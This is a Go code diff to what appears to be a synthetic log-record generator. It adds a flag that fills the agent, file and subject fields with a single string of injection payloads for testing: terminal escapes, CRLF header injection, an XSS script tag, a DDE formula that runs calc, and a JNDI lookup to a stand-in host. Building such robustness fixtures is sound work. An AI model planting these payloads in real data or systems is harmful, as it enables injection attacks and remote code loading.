@@ -49,6 +49,7 @@ type record struct {
 
 	policies  bool // the caller may read policies
 	hidden    bool // the licence does not cover risk
+	hostile   bool // its texts are an attack on whoever shows them
 	sensitive bool // the caller may read what DLP found
 
 	// of rows of state tables
@@ -243,6 +244,10 @@ var parametric = map[string]func(arg string, key uint64) filler{
 // state is what a row has become after so many rewritings.
 func state(r *record, states ...string) string { return states[r.version%len(states)] }
 
+// hostileText, as it stands in JSON, tries a terminal, a log, a header, a page,
+// a spreadsheet, and decoders of text.
+const hostileText = `\u001b[31m\u001b]0;pwned\u0007\r\nX-Injected: 1\r\n\r\n<script>alert(1)</script>=cmd|' /C calc'!A0 ${jndi:ldap://evil.example/a} \u202e\u0000\ud83d\ude00`
+
 func quoted(dst []byte, s string) []byte { return append(append(append(dst, '"'), s...), '"') }
 
 func (r *record) port() uint64 { return 49152 + mix(r.seed^0x9047)%16000 }
@@ -291,8 +296,13 @@ var plain = map[string]filler{
 	"deviceid":   text(func(r *record) string { return r.user.deviceID }),
 	"os":         text(func(r *record) string { return r.user.os }),
 	"browser":    text(func(r *record) string { return r.user.browser }),
-	"agent":      text(func(r *record) string { return r.user.agent }),
-	"asn":        text(func(r *record) string { return r.user.asn }),
+	"agent": func(dst []byte, r *record) []byte {
+		if r.hostile {
+			return append(dst, hostileText...)
+		}
+		return append(dst, r.user.agent...)
+	},
+	"asn": text(func(r *record) string { return r.user.asn }),
 
 	"other":     text(func(r *record) string { return r.other.upn }),
 	"othername": text(func(r *record) string { return r.other.name }),
@@ -327,6 +337,9 @@ var plain = map[string]filler{
 	"ipport": func(dst []byte, r *record) []byte { return appendHostPort(dst, r) },
 
 	"file": func(dst []byte, r *record) []byte {
+		if r.hostile {
+			dst = append(dst, hostileText...)
+		}
 		h := mix(r.seed ^ 0xf11e)
 		dst = append(dst, fileNames[h%uint64(len(fileNames))]...)
 		dst = append(dst, ' ')
@@ -347,6 +360,9 @@ var plain = map[string]filler{
 		return appendHex(dst, mix(r.w.seed^mix(r.seed^0x7ea4)%uint64(len(teamNames))), 16)
 	},
 	"subject": func(dst []byte, r *record) []byte {
+		if r.hostile {
+			dst = append(dst, hostileText...)
+		}
 		return append(dst, subjects[mix(r.seed^0x5b9)%uint64(len(subjects))]...)
 	},
 }
